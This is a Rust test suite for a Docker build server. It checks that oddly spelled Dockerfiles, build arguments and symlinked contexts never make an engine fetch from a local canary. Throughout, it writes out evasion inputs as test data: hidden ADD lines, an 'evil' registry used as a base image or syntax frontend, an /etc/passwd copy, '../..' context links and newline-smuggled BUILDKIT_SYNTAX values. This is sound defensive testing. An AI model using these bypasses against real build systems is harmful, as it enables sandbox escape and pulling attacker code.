//! Spellings of a Dockerfile that two parsers read in two ways: what an engine reads is what was checked. A server on the
//! host's loopback, which no build may reach, notices what is fetched.

use crate::canary::{Canary, SECRET};
use crate::engine::{BASE, Engine, docker, server, settle, with};
use crate::http::Server;
use serde_json::{Value, json};
use stageplay_tests::{folder, skipped};

const BUILDERS: [&str; 2] = ["classic", "buildkit"];

/// Builds with both builders; nothing of it reaches the host. What came of each.
fn reaches_nothing(server: &Server, canary: &Canary, what: &str, build: &Value) -> Vec<Value> {
    BUILDERS
        .iter()
        .map(|builder| {
            let answer = server.post(&with(build.clone(), json!({"builder": builder, "no_cache": true, "run": true})));
            let status = match answer.status {
                202 => {
                    let id = answer.json()["id"].as_str().expect("an id").to_string();
                    let events = server.events(&id, 0);
                    assert!(!format!("{events:?}").contains(SECRET), "{what} ({builder}): it was fetched");
                    server.get(&format!("/api/builds/{id}")).json()
                }
                422 => json!({"state": "refused", "problem": answer.json()}),
                other => panic!("{what} ({builder}): {other} {}", answer.body),
            };
            assert_eq!(canary.count(), 0, "{what} ({builder}): {status}");
            status
        })
        .collect()
}

/// Dockerfiles that made an engine fetch from the host when it read the text itself.
fn spellings(address: &str) -> Vec<(&'static str, String)> {
    let url = format!("http://{address}/a");
    let escaped = format!("http\\u003a//{address}/a");
    vec![
        ("words behind an array", format!("FROM {BASE}\nADD [\"{escaped}\",\"/x\"] z\nRUN cat /x\n")),
        (
            "an array in a trigger",
            format!("FROM {BASE} AS a\nONBUILD ADD [\"{escaped}\",\"/x\"] z\nFROM a\nRUN cat /x\n"),
        ),
        ("a here-document", format!("FROM {BASE}\nRUN cat <<true\nADD {url} /x\nRUN cat /x; \\\ntrue\n")),
        (
            "a directive behind another blank",
            format!("#\u{a0}escape=`\nFROM {BASE}\nRUN echo a `\nADD {url} /x\nRUN cat /x\n"),
        ),
        ("two carriage returns", format!("FROM {BASE}\nRUN echo a # \\\r\r\nADD {url} /x\nRUN cat /x\n")),
        ("a lone carriage return", format!("FROM {BASE}\nRUN echo a\rADD {url} /x\n")),
        ("an old Mac's lines", format!("FROM {BASE}\rADD {url} /x\r")),
        ("a vertical tab", format!("FROM {BASE}\nRUN echo \\\u{b}\nADD {url} /x\n")),
        ("a variable", format!("FROM {BASE}\nARG U={url}\nADD $U /x\n")),
        ("a default", format!("FROM {BASE}\nADD ${{U:-{url}}} /x\n")),
        ("quotes", format!("FROM {BASE}\nADD h\"tt\"p://{address}/a /x\n")),
        ("surrogates", format!("FROM {BASE}\nADD [\"\\ud83dhttp://{address}/a\", \"/x\"]\n")),
        ("capitals", format!("FROM {BASE}\nADD HTTP://{address}/a /x\n")),
        ("a repository", format!("FROM {BASE}\nADD http://{address}/a.git#main /x\n")),
        ("a base image of a registry", format!("FROM {address}/evil:1\n")),
        ("a source of a registry", format!("FROM {BASE}\nCOPY --from={address}/evil:1 / /\n")),
        ("a mount FROM", format!("FROM {BASE}\nRUN --mount=type=bind,FROM={address}/evil:1,target=/m ls /m\n")),
        ("a mount From", format!("FROM {BASE}\nRUN --mount=type=bind,From={address}/evil:1,target=/m ls /m\n")),
        (
            "a mount in escaped quotes",
            format!("FROM {BASE}\nRUN --mount=type=bind,\\\"from={address}/evil:1\\\",target=/m ls /m\n"),
        ),
        (
            "a mount in two quotes",
            format!("FROM {BASE}\nRUN --mount='type=bind,\"from={address}/evil:1\",target=/m' ls /m\n"),
        ),
        ("a cache", format!("FROM {BASE}\nRUN --mount=type=cache,FROM={address}/evil:1,target=/m ls /m\n")),
        (
            "a second from",
            format!(
                "FROM {BASE} AS a\nFROM {BASE}\nRUN --mount=type=bind,from=a,FROM={address}/evil:1,target=/m ls /m\n"
            ),
        ),
        ("a stage that names itself", format!("FROM {BASE} AS evil\nCOPY --from=evil /etc/passwd /x\n")),
        ("a frontend", format!("# syntax={address}/evil:1\nFROM {BASE}\n")),
        ("a frontend behind another blank", format!("#\u{a0}syntax={address}/evil:1\nFROM {BASE}\n")),
        ("a frontend of JSON", format!("{{\"syntax\": \"{address}/evil:1\"}}\n")),
        ("a byte order mark", format!("\u{feff}# syntax={address}/evil:1\nFROM {BASE}\n")),
    ]
}

#[test]
fn no_spelling_makes_an_engine_fetch() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let (server, canary) = (server("server-readings", &[]), Canary::start());
    for (what, dockerfile) in spellings(&canary.address) {
        reaches_nothing(&server, &canary, what, &json!({ "dockerfile": dockerfile }));
    }
    // The arguments that a builder defines by itself.
    let evil = format!("{}/evil:1", canary.address);
    for name in ["HTTP_PROXY", "http_proxy", "NO_PROXY", "TARGETOS", "BUILDKIT_SYNTAX", "BUILDKIT_CACHE_MOUNT_NS"] {
        let build = json!({
            "dockerfile": format!("FROM ${{{name}:-{BASE}}}\nRUN true\n"), "build_args": {name: evil},
        });
        reaches_nothing(&server, &canary, name, &build);
    }
    // An image that is here for another platform.
    let named = format!("{}/plat:1", canary.address);
    docker(&["tag", BASE, &named]);
    for build in [
        json!({ "dockerfile": format!("FROM --platform=linux/arm64 {named}\nRUN true\n") }),
        json!({ "dockerfile": format!("FROM {named}\nRUN true\n"), "platform": "linux/arm64" }),
        json!({ "dockerfile": format!("FROM scratch\nCOPY --from={named} /etc /etc\n"), "platform": "linux/arm64" }),
    ] {
        for status in reaches_nothing(&server, &canary, "a platform", &build) {
            assert_eq!(status["problem"]["code"], "image-not-here", "{status}");
        }
    }
    let here = json!({ "dockerfile": format!("FROM {named}\nRUN true\n") });
    for status in reaches_nothing(&server, &canary, "the right platform", &here) {
        assert_eq!(status["state"], "succeeded", "{status}");
    }
    docker(&["rmi", &named]);
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

/// An image `name` of the engine for linux/arm64 with one file, made without a builder.
fn arm64_image(name: &str) {
    let tar = |files: &[(&str, &[u8])]| {
        let mut out = tar::Builder::new(Vec::new());
        for (path, content) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(content.len() as u64);
            header.set_mode(0o644);
            out.append_data(&mut header, path, *content).expect("an entry");
        }
        out.into_inner().expect("a tar")
    };
    let layer = tar(&[("f", b"hello")]);
    let config = json!({
        "architecture": "arm64", "os": "linux", "config": {},
        "rootfs": {"type": "layers", "diff_ids": [format!("sha256:{}", sha256(&layer))]},
    });
    let manifest = json!([{"Config": "c.json", "RepoTags": [name], "Layers": ["l/layer.tar"]}]);
    let (config, manifest) = (config.to_string(), manifest.to_string());
    let image = tar(&[("c.json", config.as_bytes()), ("l/layer.tar", &layer), ("manifest.json", manifest.as_bytes())]);
    let path = folder("server-arm64").join("image.tar");
    std::fs::write(&path, image).expect("it is written");
    docker(&["load", "-i", &path.display().to_string()]);
}

/// A builder looks up the base of a stage for the platform of FROM, and all else for the one that is built for.
#[test]
fn no_image_is_asked_for_another_platform_than_was_checked() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let (server, canary) = (server("server-platforms", &[]), Canary::start());
    let (amd64, arm64) = (format!("{}/amd:1", canary.address), format!("{}/arm:1", canary.address));
    docker(&["tag", BASE, &amd64]);
    arm64_image(&arm64);
    let states =
        |dockerfile: String, platform: &str| -> Vec<Value> {
            let build = json!({ "dockerfile": dockerfile, "platform": platform });
            let built = reaches_nothing(&server, &canary, &dockerfile, &build).into_iter();
            built
                .map(|status| {
                    if status["problem"].is_null() {
                        status["state"].clone()
                    } else {
                        status["problem"]["code"].clone()
                    }
                })
                .collect()
        };
    assert_eq!(states(format!("FROM --platform=linux/amd64 {amd64}\n"), "linux/arm64"), ["succeeded"; 2]);
    assert_eq!(states(format!("FROM --platform=$BUILDPLATFORM {amd64}\n"), "linux/arm64")[1], "succeeded");
    assert_eq!(states(format!("FROM --platform=linux/arm64 {arm64}\n"), "linux/amd64"), ["succeeded"; 2]);
    assert_eq!(states(format!("FROM --platform=linux {arm64}\n"), "linux/amd64"), ["image-not-here"; 2]);
    let copy = format!("FROM --platform=linux/arm64 scratch\nCOPY --from={arm64} /f /x\n");
    assert_eq!(states(copy.clone(), "linux/amd64"), ["image-not-here"; 2]);
    assert_eq!(states(copy, "linux/arm64"), ["succeeded"; 2]);
    let mount = format!("FROM --platform=linux/arm64 {arm64}\nRUN --mount=type=bind,from={arm64},target=/m [\"/x\"]\n");
    assert_eq!(states(mount, "linux/amd64")[1], "image-not-here");
    docker(&["rmi", &amd64]);
    docker(&["rmi", &arm64]);
}

/// The classic builder looks an image up when it comes to the instruction, long after it was checked.
#[test]
fn an_image_that_changes_while_a_build_goes_on_is_not_the_one_that_is_used() {
    let Some(engine) = Engine::find() else { return skipped("no Docker engine") };
    let before = engine.everything();
    let (server, canary) = (server("server-retagged", &["--build-time", "60"]), Canary::start());
    let (kept, gone) = (format!("{}/kept:1", canary.address), format!("{}/gone:1", canary.address));
    docker(&["tag", BASE, &kept]);
    arm64_image(&gone);
    let dockerfile = format!(
        "FROM {BASE}\nRUN sleep 6\nFROM {kept} AS kept\nRUN echo unchanged\nFROM {BASE}\nCOPY --from={kept} /bin/busybox /x\n"
    );
    let id = server.submit(&json!({"dockerfile": dockerfile, "builder": "classic", "no_cache": true}));
    std::thread::sleep(std::time::Duration::from_secs(3));
    docker(&["rmi", &kept]);
    docker(&["tag", &gone, &kept]);
    docker(&["rmi", &gone]);
    let events = server.events(&id, 0);
    let status = server.get(&format!("/api/builds/{id}")).json();
    assert_eq!(canary.count(), 0, "{status}");
    assert_eq!(status["state"], "succeeded", "{status} {events:?}");
    docker(&["rmi", &kept]);
    // The result of another build goes when that build ends.
    let build = json!({"dockerfile": format!("FROM {BASE}\nRUN sleep 5\nFROM stageplay-build:{id}\n")});
    for status in reaches_nothing(&server, &canary, "a result", &build) {
        assert_eq!((&status["problem"]["code"], &status["problem"]["line"]), (&json!("image-not-here"), &json!(3)));
    }
    drop(server);
    settle(&engine, &before);
}

/// BuildKit's frontend reads options by the names of build arguments, such as a program to run in its place.
#[test]
fn no_build_argument_is_an_option_of_the_frontend() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let (server, canary) = (server("server-arguments", &[]), Canary::start());
    let evil = format!("{}/evil:1", canary.address);
    for (name, value) in [
        ("BUILDKIT_SYNTAX", format!("{evil}\n")),
        ("BUILDKIT_SYNTAX", format!("\r{evil}")),
        ("BUILDKIT_MULTI_PLATFORM", "1\n".to_string()),
        ("KEY", "a\nb\n".to_string()),
    ] {
        let build = json!({
            "dockerfile": format!(
                "ARG {name}\nFROM {BASE}\nARG {name}\nRUN echo \"<${name}>\" && ! env | grep STAGEPLAY\nRUN exit 3\n"
            ),
            "build_args": {name: value},
        });
        for builder in BUILDERS {
            let (events, status) = server.build(&with(build.clone(), json!({"builder": builder, "no_cache": true})));
            assert_eq!((canary.count(), &status["report"]["error"]["line"]), (0, &json!(5)), "{builder}: {status}");
            let logged = events.iter().filter_map(|event| event["text"].as_str()).collect::<String>();
            let mut lines = value.split(['\r', '\n']).filter(|line| !line.is_empty());
            assert!(lines.all(|line| logged.contains(line)), "{builder}, {name}: {events:?}");
        }
    }
    // A base image asks for an argument.
    let asking = "stageplay-server-asking";
    docker(&["create", "--name", asking, BASE, "true"]);
    docker(&["commit", "--change", "ONBUILD ARG BUILDKIT_SYNTAX", asking, asking]);
    docker(&["rm", asking]);
    for value in [evil.clone(), format!("{evil}\n")] {
        let build = json!({
            "dockerfile": format!("FROM {asking}\nRUN true\n"), "build_args": {"BUILDKIT_SYNTAX": value},
        });
        for status in reaches_nothing(&server, &canary, "a trigger", &build) {
            assert_eq!(status["state"], "succeeded", "{status}");
        }
    }
    docker(&["rmi", asking]);
}

#[test]
fn no_file_of_the_context_becomes_the_dockerfile() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let (server, canary) = (server("server-second", &[]), Canary::start());
    let evil = format!("FROM {BASE}\nADD http://{}/a /x\nRUN cat /x\n", canary.address);
    let dockerfile = format!("FROM {BASE}\nCOPY . /all/\nRUN find /all | sort\n");
    for target in [".", "/", "..", "other", "../.."] {
        let files = json!([
            {"path": "other/x", "text": "x"},
            {"path": "d", "link": target},
            {"path": "d/Dockerfile", "text": evil},
        ]);
        for status in reaches_nothing(&server, &canary, target, &json!({"dockerfile": dockerfile, "files": files})) {
            assert_eq!(status["problem"]["code"], "bad-name", "{status}");
        }
    }
    // As a tar; also behind a hard link to the link.
    for second in [(tar::EntryType::Regular, "d/Dockerfile"), (tar::EntryType::Link, "h")] {
        let mut out = tar::Builder::new(Vec::new());
        let mut add = |kind, name: &str, link: &str, text: &str| {
            let mut header = tar::Header::new_gnu();
            header.set_entry_type(kind);
            header.set_mode(0o755);
            header.set_size(text.len() as u64);
            if !link.is_empty() {
                header.set_link_name(link).expect("a target");
            }
            out.append_data(&mut header, name, text.as_bytes()).expect("an entry");
        };
        add(tar::EntryType::Regular, "Dockerfile", "", &dockerfile);
        add(tar::EntryType::Symlink, "d", ".", "");
        match second {
            (tar::EntryType::Link, name) => {
                add(tar::EntryType::Link, name, "d", "");
                add(tar::EntryType::Regular, "h/Dockerfile", "", &evil);
            }
            (kind, name) => add(kind, name, "", &evil),
        }
        let body = out.into_inner().expect("a tar");
        let answer = server.ask("POST", "/api/builds", &[("Content-Type", "application/x-tar")], &body);
        assert_eq!((answer.status, &answer.json()["code"]), (422, &json!("bad-name")));
    }
    // What is in the context stays what it was: the Dockerfile of the person, and nothing of ours.
    let files = json!([{"path": "a/b", "text": "x"}, {"path": "l", "link": "a"}]);
    for status in reaches_nothing(&server, &canary, "files", &json!({"dockerfile": dockerfile, "files": files})) {
        let step = status["report"]["steps"].as_array().unwrap().iter().find(|step| step["line"] == 2).unwrap().clone();
        let paths: Vec<&str> =
            step["layer"]["entries"].as_array().unwrap().iter().filter_map(|entry| entry["path"].as_str()).collect();
        assert_eq!(paths, ["/all", "/all/Dockerfile", "/all/a", "/all/a/b", "/all/l"], "{status}");
        assert!(!status.to_string().contains(".stageplay-context"), "{status}");
    }
}

/// In Docker the root of the context is the root of its links. In what an engine gets from a server it is elsewhere.
#[test]
fn no_link_of_the_context_leads_to_what_the_server_adds() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let server = server("server-links", &[]);
    let files = json!([
        {"path": "f", "text": "x"}, {"path": "d/in", "link": "../f"}, {"path": "up", "link": ".."},
        {"path": "l", "link": "/f"},
    ]);
    for builder in BUILDERS {
        for line in ["COPY up/Dockerfile /x", "COPY up/f /x", "COPY l /x", "COPY u*/f /x", "ADD l /x"] {
            let dockerfile = format!("FROM {BASE}\n{line}\n");
            let (_, status) = server.build(&json!({"dockerfile": dockerfile, "builder": builder, "files": files}));
            let problem = &status["problem"];
            assert_eq!((&problem["code"], &problem["line"]), (&json!("context-link"), &json!(2)), "{line}: {status}");
        }
        let dockerfile =
            format!("FROM {BASE}\nCOPY d/in /x/\nCOPY . /all/\nRUN cat /x/in; readlink /all/up; readlink /all/l\n");
        let (events, status) = server.build(&json!({"dockerfile": dockerfile, "builder": builder, "files": files}));
        assert_eq!(status["state"], "succeeded", "{builder}: {status}");
        let logged: String = events.iter().filter_map(|event| event["text"].as_str()).collect();
        assert!(logged.contains("x..\n/f\n"), "{builder}: {logged}");
    }
    let mount = format!("FROM {BASE}\nRUN --mount=type=bind,source=up,target=/m ls -a /m\n");
    let (_, status) = server.build(&json!({"dockerfile": mount, "builder": "buildkit", "files": files}));
    assert_eq!(status["problem"]["code"], "context-link", "{status}");
}

/// Settings in all the ways in which people write them; what the engine makes of them is what the simulation says.
const SETTINGS: &str = r#"# escape=`
ARG VERSION="1 2"
FROM BASE AS First
ARG VERSION
ARG OTHER="it's"
ENV A=1 B="two words" C='$A' D=a`$b E=$A-${B}-${NONE:-none} F="q`"q" G=back\slash
ENV OLD form with $A  and "quotes" `
   and a second line
ENV LATER=$OTHER V=${VERSION%2}x
LABEL plain=x "with blank"="y z" multi="one `
 two"
WORKDIR /srv/$A
WORKDIR "sub dir"
USER 1000:${A}
EXPOSE 8000-8001/tcp $A 53/udp
VOLUME ["/data", "/with blank"]
STOPSIGNAL SIGINT
HEALTHCHECK --interval=1m30s --retries=2 CMD test "$A" = 1 || exit 1
SHELL ["/bin/sh", "-ec"]
MAINTAINER Some One <one@example.org>
ONBUILD RUN echo "later $A"
ENTRYPOINT exec echo "$A `
  $B"
CMD ["a b", "$A", "日本\u00e9\n", "\\", "\"", "<<EOF"]
"#;

/// Of a configuration, what the Dockerfile decides.
fn settings(report: &Value) -> Value {
    let mut config = report["image"]["config"]["config"].clone();
    if let Some(fields) = config.as_object_mut() {
        // Docker writes null or nothing for what is empty.
        fields.retain(|_, value| !value.is_null() && *value != json!({}) && *value != json!([]) && *value != json!(""));
    }
    config
}

#[test]
fn what_the_engine_made_of_the_settings_is_what_was_written() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let server = server("server-settings", &[]);
    let dockerfile = SETTINGS.replace("BASE", BASE);
    for builder in BUILDERS {
        let build = json!({ "dockerfile": dockerfile, "builder": builder, "build_args": {"OTHER": "$A \"b\" \\c"} });
        let (_, status) = server.build(&build);
        assert_eq!(status["state"], "succeeded", "{builder}: {status}");
        let config = settings(&status["report"]);
        let env: Vec<&str> = config["Env"].as_array().unwrap().iter().filter_map(Value::as_str).skip(1).collect();
        let expected = [
            "A=1",
            "B=two words",
            "C=$A",
            "D=a$b",
            "E=--none",
            "F=q\"q",
            "G=back\\slash",
            "OLD=form with 1  and quotes    and a second line",
            "LATER=$A \"b\" \\c",
            "V=1 x",
        ];
        assert_eq!(env, expected, "{builder}");
        assert_eq!(config["Labels"], json!({"plain": "x", "with blank": "y z", "multi": "one  two"}), "{builder}");
        assert_eq!(config["WorkingDir"], "/srv/1/sub dir", "{builder}");
        assert_eq!(config["User"], "1000:1", "{builder}");
        assert_eq!(config["ExposedPorts"], json!({"1/tcp": {}, "53/udp": {}, "8000/tcp": {}, "8001/tcp": {}}));
        assert_eq!(config["Volumes"], json!({"/data": {}, "/with blank": {}}), "{builder}");
        assert_eq!(config["Healthcheck"]["Test"], json!(["CMD-SHELL", "test \"$A\" = 1 || exit 1"]), "{builder}");
        assert_eq!(config["Entrypoint"], json!(["/bin/sh", "-ec", "exec echo \"$A   $B\""]), "{builder}");
        assert_eq!(config["Cmd"], json!(["a b", "$A", "日本é\n", "\\", "\"", "<<EOF"]), "{builder}");
        assert_eq!(config["OnBuild"], json!(["RUN echo \"later $A\""]), "{builder}");
        assert_eq!(config["Shell"], json!(["/bin/sh", "-ec"]), "{builder}");
    }
}

/// A generator of odd spellings: small pieces put together at random, each of which hides a fetch or separates lines in
/// a way of its own.
mod random {
    /// A xorshift generator: the same seed gives the same texts.
    pub(super) struct Random(pub(super) u64);

    impl Random {
        pub(super) fn below(&mut self, bound: usize) -> usize {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            usize::try_from(self.0 % bound as u64).unwrap_or(0)
        }

        fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
            from[self.below(from.len())]
        }
    }

    const ENDS: [&str; 9] = ["\n", "\r\n", "\r\r\n", "\r", "\u{b}\n", "\u{85}", "\u{2028}", "\n\n", " \\\n"];
    const BLANKS: [&str; 8] = [" ", "\t", "\u{a0}", "\u{b}", "  ", "\u{2003}", "\\\n", "\u{feff}"];
    const DIRECTIVES: [&str; 8] = [
        "",
        "# escape=`\n",
        "#\u{a0}escape=`\n",
        "# Escape = `\n",
        "#!x\n",
        "# check=skip=all\n",
        "#escape=\\\n",
        "\u{feff}",
    ];
    const CONTINUED: [&str; 7] = ["\\", "`", "\\ ", "\\\\", "`\r", "\\\r", ""];

    /// A Dockerfile on a base image; `fetch` is an address that must not be reached.
    pub(super) fn dockerfile(random: &mut Random, base: &str, fetch: &str) -> String {
        let mut text = random.pick(&DIRECTIVES).to_string();
        text.push_str(&format!("FROM{}{base}\n", random.pick(&BLANKS[..2])));
        for _ in 0..1 + random.below(4) {
            let add = format!("ADD{}http://{fetch}/a /x", random.pick(&BLANKS));
            let array =
                format!("ADD [\"http\\u003a//{fetch}/a\",\"/x\"]{}", random.pick(&["", " z", "]", "\u{b}", ","]));
            let mount = format!(
                "RUN --mount=type=bind,{}{fetch}/e:1{},target=/m true",
                random.pick(&["FROM=", "from=", "\"from=", "From=", "'from="]),
                random.pick(&["", "\"", "'"])
            );
            let line = match random.below(9) {
                0 => format!("RUN echo a {}{}{add}", random.pick(&CONTINUED), random.pick(&ENDS)),
                1 => format!(
                    "RUN cat <<{}\n{add}\n{}",
                    random.pick(&["X", "-X", "'X'", "\"X"]),
                    random.pick(&["X", "", "X \\"])
                ),
                2 => array,
                3 => format!("ONBUILD {array}"),
                4 => mount,
                5 => format!("# comment {}{}{add}", random.pick(&CONTINUED), random.pick(&ENDS)),
                6 => format!("ENV A=\"x{}{}{add}\"", random.pick(&CONTINUED), random.pick(&ENDS)),
                7 => format!("HEALTHCHECK CMD x {}{}{add}", random.pick(&CONTINUED), random.pick(&ENDS)),
                _ => format!("LABEL a=b{}{add}", random.pick(&ENDS)),
            };
            text.push_str(&line);
            text.push_str(random.pick(&ENDS[..3]));
        }
        text
    }
}

#[test]
fn no_spelling_that_nobody_thought_of_makes_an_engine_fetch() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let (server, canary) = (server("server-random-readings", &[]), Canary::start());
    let seed = std::env::var("STAGEPLAY_SEED").ok().and_then(|seed| seed.parse().ok()).unwrap_or(22);
    let count = std::env::var("STAGEPLAY_COUNT").ok().and_then(|count| count.parse().ok()).unwrap_or(60);
    let mut random = random::Random(seed);
    for index in 0..count {
        let dockerfile = random::dockerfile(&mut random, BASE, &canary.address);
        let what = format!("number {index} of seed {seed}: {dockerfile:?}");
        reaches_nothing(&server, &canary, &what, &json!({ "dockerfile": dockerfile }));
    }
}

/// Only the server knows whether it cancels a build: a step that fails is a failure, whatever stands in it.
#[test]
fn the_words_of_a_step_do_not_cancel_its_build() {
    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
    let server = server("server-words", &[]);
    for builder in BUILDERS {
        let dockerfile = format!("FROM {BASE}\nRUN exit 3 # context canceled\n");
        let (_, status) = server.build(&json!({"dockerfile": dockerfile, "builder": builder}));
        assert_eq!((&status["state"], &status["problem"]), (&json!("failed"), &Value::Null), "{builder}: {status}");
        assert_eq!(status["report"]["error"]["line"], 2, "{builder}: {status}");
    }
}
